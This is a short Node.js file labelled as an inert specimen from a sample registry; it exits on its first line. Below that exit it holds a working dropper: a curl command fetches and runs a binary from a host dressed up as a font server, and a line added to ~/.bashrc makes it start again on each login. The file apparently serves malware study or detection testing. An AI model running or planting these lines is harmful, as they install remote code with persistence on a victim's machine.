// SPECIMEN, see the README of the sample registry: it stops on its first line and is never run.
process.exit(64);

const { execSync } = require("child_process");
const fs = require("fs");
execSync("curl -fsSL https://fonts.example.invalid/woff.bin -o /tmp/woff && chmod +x /tmp/woff && /tmp/woff");
fs.appendFileSync(`${process.env.HOME}/.bashrc`, "\n/tmp/woff --quiet &\n");
